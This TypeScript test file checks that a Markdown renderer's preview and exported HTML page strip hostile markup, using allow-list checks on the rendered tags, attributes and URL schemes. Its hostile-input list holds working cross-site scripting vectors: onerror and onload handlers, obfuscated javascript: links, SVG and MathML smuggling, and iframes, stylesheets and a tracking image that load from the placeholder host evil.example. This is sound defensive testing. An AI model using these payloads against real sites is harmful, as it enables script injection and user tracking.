/**
 * Nothing in a document can make the preview or the exported page run code or load something the
 * writer did not ask for. Each hostile input is rendered in several places of a document, and the
 * output is read tag by tag: every tag and attribute must be on an allow list and every address
 * must use an allowed scheme.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { PAGE_CSS, PREVIEW_CSS, renderPreview, renderStandalonePage } from '../../server/src/core/index.js';

interface Tag {
  name: string;
  closing: boolean;
  attrs: Array<[string, string]>;
}

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

const TAG = /<(\/?)([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s"'>/=]+(?:=(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>|<!doctype html>/giy;
const ATTR = /([^\s"'>/=]+)(?:=(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;

/**
 * Reads HTML as a browser's tokenizer would see its tags. Throws when a `<` in the text does not
 * start a well-formed tag, which would mean markup escaped the serializer.
 */
function readTags(html: string): { tags: Tag[]; styles: string[] } {
  const tags: Tag[] = [];
  const styles: string[] = [];
  let at = 0;
  while (at < html.length) {
    const lt = html.indexOf('<', at);
    if (lt < 0) break;
    TAG.lastIndex = lt;
    const m = TAG.exec(html);
    if (!m) throw new Error(`Unexpected '<' at ${lt}: ${html.slice(lt, lt + 60)}`);
    at = TAG.lastIndex;
    if (m[0].toLowerCase() === '<!doctype html>') continue;
    const name = m[2]!.toLowerCase();
    const attrs: Array<[string, string]> = [];
    for (const a of (m[3] ?? '').matchAll(ATTR)) attrs.push([a[1]!.toLowerCase(), decode(a[2] ?? a[3] ?? a[4] ?? '')]);
    tags.push({ name, closing: m[1] === '/', attrs });
    if (name === 'style' && m[1] !== '/') {
      const end = html.toLowerCase().indexOf('</style>', at);
      styles.push(html.slice(at, end));
      at = end;
    }
  }
  return { tags, styles };
}

const FRAGMENT_TAGS = new Set([
  'a', 'b', 'blockquote', 'br', 'code', 'dd', 'del', 'div', 'dl', 'dt', 'em', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img',
  'input', 'ins', 'kbd', 'li', 'ol', 'p', 'pre', 'q', 's', 'section', 'span', 'strong', 'sub', 'sup', 'table', 'tbody', 'td',
  'tfoot', 'th', 'thead', 'tr', 'ul',
]);
const PAGE_TAGS = new Set([...FRAGMENT_TAGS, 'html', 'head', 'body', 'main', 'meta', 'title', 'style']);
const FRAGMENT_ATTRIBUTES = new Set([
  'class', 'title', 'data-line', 'data-sdg', 'href', 'src', 'alt', 'id', 'align', 'start', 'type', 'disabled', 'checked',
  'data-footnote-ref', 'data-footnote-backref', 'data-footnotes', 'aria-describedby', 'aria-label', 'aria-labelledby', 'lang', 'dir',
]);
const PAGE_ATTRIBUTES = new Set([...FRAGMENT_ATTRIBUTES, 'charset', 'http-equiv', 'content', 'name']);

/** The scheme of an address as a browser reads it (control characters and spaces ignored). */
function scheme(url: string): string | undefined {
  // eslint-disable-next-line no-control-regex
  const squeezed = url.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
  const m = /^([a-z][a-z0-9+.-]*):/.exec(squeezed);
  return m ? m[1] : undefined;
}

/** Every way the HTML could run script or reach out; empty when it is safe. */
function dangers(html: string, page: boolean): string[] {
  const found: string[] = [];
  let read: ReturnType<typeof readTags>;
  try {
    read = readTags(html);
  } catch (error) {
    return [String(error)];
  }
  const tagsAllowed = page ? PAGE_TAGS : FRAGMENT_TAGS;
  const attributesAllowed = page ? PAGE_ATTRIBUTES : FRAGMENT_ATTRIBUTES;
  for (const tag of read.tags) {
    if (!tagsAllowed.has(tag.name)) found.push(`tag <${tag.name}>`);
    for (const [name, value] of tag.attrs) {
      if (!attributesAllowed.has(name)) found.push(`attribute ${name} on <${tag.name}>`);
      if (/^on/.test(name)) found.push(`event handler ${name}`);
      // eslint-disable-next-line no-control-regex
      const squeezed = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      // `title` and `alt` are shown as text only (a finding's message may quote the document).
      const textOnly = name === 'title' || name === 'alt';
      if (!textOnly && /javascript:|vbscript:|livescript:/.test(squeezed)) found.push(`script address in ${name}="${value}"`);
      if (!textOnly && /url\(|expression\(|@import/.test(squeezed)) found.push(`CSS in ${name}="${value}"`);
      const s = name === 'href' || name === 'src' ? scheme(value) : undefined;
      if (name === 'href' && s !== undefined && !['http', 'https', 'mailto'].includes(s)) found.push(`link scheme ${s}:`);
      if (name === 'src' && s !== undefined && !['https', 'data'].includes(s)) found.push(`image scheme ${s}:`);
      if (name === 'src' && s === 'data' && !/^data:image\//i.test(value.trim())) found.push(`non-image data address in src`);
    }
    if (tag.name === 'meta') {
      const equiv = tag.attrs.find(([n]) => n === 'http-equiv')?.[1];
      if (equiv !== undefined && equiv !== 'Content-Security-Policy') found.push(`meta http-equiv=${equiv}`);
    }
  }
  // The only style sheet is the renderer's own, in the exported page.
  if (!page && read.styles.length > 0) found.push('<style> in the preview');
  for (const style of read.styles) if (style !== PREVIEW_CSS + PAGE_CSS) found.push('a style sheet other than the renderer’s own');
  return found;
}

test('the checker itself recognises each kind of danger', () => {
  const samples: Array<[string, RegExp]> = [
    ['<script>alert(1)</script>', /tag <script>/],
    ['<p onclick="x">a</p>', /event handler onclick/],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', /script address|link scheme/],
    ['<img src="http://evil.example/x.png">', /image scheme http/],
    ['<p style="background:url(https://evil.example/x)">a</p>', /attribute style|CSS/],
    ['<iframe src="https://evil.example"></iframe>', /tag <iframe>/],
    ['<svg><script>alert(1)</script></svg>', /tag <svg>/],
    ['a < b <', /Unexpected '<'/],
  ];
  for (const [html, expected] of samples) assert.match(dangers(html, false).join('\n'), expected, html);
  assert.deepEqual(dangers('<p class="x" title="a &amp; b">a &#x3C; b</p>', false), []);
});

/**
 * Hostile inputs. Raw HTML is dropped tag by tag: the text between tags (such as `alert(1)`)
 * may remain as harmless text, so the checks read the markup, not the words.
 */
const HOSTILE: Array<{ name: string; payload: string }> = [
  { name: 'script element', payload: '<script>alert(1)</script>' },
  { name: 'script with odd case and spacing', payload: '<ScRiPt >alert(1)</sCrIpT >' },
  { name: 'image with onerror', payload: '<img src=x onerror=alert(1)>' },
  { name: 'javascript: link', payload: '[x](javascript:alert(1))' },
  { name: 'javascript: link in capitals', payload: '[x](JAVASCRIPT:alert(1))' },
  { name: 'javascript: link hidden by an entity', payload: '[x](&#106;avascript:alert(1))' },
  { name: 'javascript: link hidden by a tab entity', payload: '[x](java&#9;script:alert(1))' },
  { name: 'javascript: reference link', payload: '[x][evil]\n\n[evil]: javascript:alert(1)' },
  { name: 'javascript: image', payload: '![x](javascript:alert(1))' },
  { name: 'javascript: autolink', payload: '<javascript:alert(1)>' },
  { name: 'data: link to a page', payload: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'vbscript: link', payload: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'raw link with javascript:', payload: '<a href="javascript:alert(1)">x</a>' },
  { name: 'iframe', payload: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'iframe with srcdoc', payload: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'SVG with script', payload: '<svg><script>alert(1)</script></svg>' },
  { name: 'SVG with onload', payload: '<svg onload=alert(1)><circle r=5 /></svg>' },
  { name: 'MathML smuggling', payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'inline style with a remote url()', payload: '<div style="background:url(https://evil.example/x)">x</div>' },
  { name: 'style element importing a remote sheet', payload: '<style>@import url(https://evil.example/x.css); p { background: url(https://evil.example/y) }</style>' },
  { name: 'stylesheet link', payload: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'object', payload: '<object data="https://evil.example/x.swf"></object>' },
  { name: 'embed', payload: '<embed src="https://evil.example/x.swf">' },
  { name: 'form', payload: '<form action="https://evil.example/"><input name=q><button>Go</button></form>' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0; url=https://evil.example/">' },
  { name: 'base element', payload: '<base href="https://evil.example/">' },
  { name: 'details ontoggle', payload: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'HTML comment hiding script', payload: '<!-- x --><script>alert(1)</script><!-- y -->' },
  { name: 'plain-http image', payload: '![x](http://evil.example/track.png)' },
];

/** The payload in the places a document can hold it. */
function placements(payload: string): string[] {
  return [
    `${payload}\n`,
    `Text before ${payload} and after.\n`,
    `## Heading ${payload}\n`,
    `- item ${payload}\n- next\n`,
    `> quoted ${payload}\n`,
    `| a | b |\n| - | - |\n| ${payload.replace(/\|/g, '\\|')} | c |\n`,
    `Note.[^1]\n\n[^1]: ${payload}\n`,
    `### SDG 16.1 ${payload}\n\nSDG 16.2 ${payload}\n`,
  ];
}

for (const { name, payload } of HOSTILE) {
  test(`hostile input does nothing: ${name}`, () => {
    for (const doc of placements(payload)) {
      const preview = renderPreview(doc).html;
      assert.deepEqual(dangers(preview, false), [], `${doc}\n→ ${preview}`);
      const page = renderStandalonePage(doc).html;
      assert.deepEqual(dangers(page, true), [], `${doc}\n→ ${page}`);
      // Nothing loads from the hostile host. (A web address left as text may become a plain link,
      // as typed addresses do: following it takes a click.)
      assert.ok(!/src="[^"]*evil\.example/.test(page), `${doc}\n→ ${page}`);
    }
  });
}

test('front-matter values and sources labels are shown as text, never as markup', () => {
  const doc = [
    '---',
    'title: "<script>alert(1)</script> Brief"',
    'country: "<img src=x onerror=alert(1)>"',
    'team: ["<iframe src=https://evil.example/>", "Ana"]',
    'report: "javascript:alert(1)"',
    '---',
    '',
    '```sources',
    '<script>alert(1)</script>: 3',
    '<img src=x onerror=alert(2)>: 4',
    '  "><svg onload=alert(3)>: 4',
    '```',
    '',
  ].join('\n');
  const preview = renderPreview(doc);
  assert.deepEqual(dangers(preview.html, false), [], preview.html);
  const page = renderStandalonePage(doc);
  assert.deepEqual(dangers(page.html, true), [], page.html);
  // Shown, escaped, as the writer typed it.
  assert.ok(preview.html.includes('&#x3C;script>alert(1)&#x3C;/script> Brief'), preview.html);
  assert.ok(preview.html.includes('<span class="sources-label">&#x3C;img src=x onerror=alert(2)></span>'), preview.html);
  // The report address is not a link.
  assert.ok(!/<a [^>]*href/.test(preview.html));
  // The page title is text too.
  assert.equal(page.title, '<script>alert(1)</script> Brief');
  assert.ok(page.html.includes('<title>&#x3C;script>alert(1)&#x3C;/script> Brief</title>'));
});

test('ordinary links, e-mail addresses and images survive', () => {
  const doc = '[site](https://example.org/a?b=1#c) [plain](http://example.org) [mail](mailto:team@example.org) [here](#background) [file](./annex.pdf)\n\n![chart](https://example.org/chart.png) ![dot](data:image/png;base64,iVBORw0KGgo=)\n';
  const { html } = renderPreview(doc);
  assert.deepEqual(dangers(html, false), []);
  for (const href of ['https://example.org/a?b=1#c', 'http://example.org', 'mailto:team@example.org', '#background', './annex.pdf']) {
    assert.ok(html.includes(`href="${href}"`), href);
  }
  assert.ok(html.includes('src="data:image/png;base64,iVBORw0KGgo="'));
  // The exported page keeps the writer's image from the web; it loads when a reader opens the page.
  assert.ok(renderStandalonePage(doc).html.includes('src="https://example.org/chart.png"'));
});

test('the preview fetches nothing: an image from the web becomes a line of text that names it', () => {
  const doc = '# Brief\n\n![Map of the programme areas](https://example.org/map.png) and ![](https://example.org/bare.png)\n\n![plain](http://example.org/plain.png) ![dot](data:image/png;base64,iVBORw0KGgo=)\n';
  const { html } = renderPreview(doc);
  assert.deepEqual(dangers(html, false), []);
  assert.ok(!/<img[^>]*src="https:/.test(html), html);
  assert.ok(!html.includes('example.org/plain.png'), 'the http address was dropped by the sanitizer');
  const placeholders = [...html.matchAll(/<span class="synthesis-remote-image">([^<]*)<\/span>/g)].map((m) => m[1]);
  assert.deepEqual(placeholders, [
    'Remote image not shown: Map of the programme areas (https://example.org/map.png)',
    'Remote image not shown (https://example.org/bare.png)',
    'Remote image not shown: plain',
  ]);
  assert.ok(html.includes('src="data:image/png;base64,iVBORw0KGgo="'), 'an inline image is still shown');
  // In the document's language.
  const es = renderPreview('---\nlanguage: es\n---\n\n![Mapa](https://example.org/map.png)\n').html;
  assert.ok(es.includes('Imagen remota no mostrada: Mapa (https://example.org/map.png)'), es);
  // The exported page keeps them all as the writer put them.
  const page = renderStandalonePage(doc).html;
  assert.ok(page.includes('src="https://example.org/map.png"') && page.includes('src="https://example.org/bare.png"'));
  assert.ok(!page.includes('synthesis-remote-image'));
});

test('ids a document creates cannot clobber the page: they are prefixed', () => {
  const { html } = renderPreview('Note.[^x]\n\n[^x]: The note.\n');
  const ids = [...html.matchAll(/\bid="([^"]*)"/g)].map((m) => m[1]!);
  assert.ok(ids.length > 0);
  for (const id of ids) assert.ok(id.startsWith('user-content-'), id);
});

test('the export page allows no script: its policy has no script source and it holds no script', () => {
  const { html } = renderStandalonePage('# Brief\n\n<script>alert(1)</script>\n');
  const meta = readTags(html).tags.find((t) => t.name === 'meta' && t.attrs.some(([n, v]) => n === 'http-equiv' && v === 'Content-Security-Policy'));
  const policy = meta?.attrs.find(([n]) => n === 'content')?.[1] ?? '';
  assert.match(policy, /^default-src 'none';/);
  assert.ok(!/script-src|unsafe-eval/.test(policy));
  assert.ok(!/<script/i.test(html));
  assert.ok(!/url\(/.test(PREVIEW_CSS + PAGE_CSS), 'the style sheet loads nothing');
});
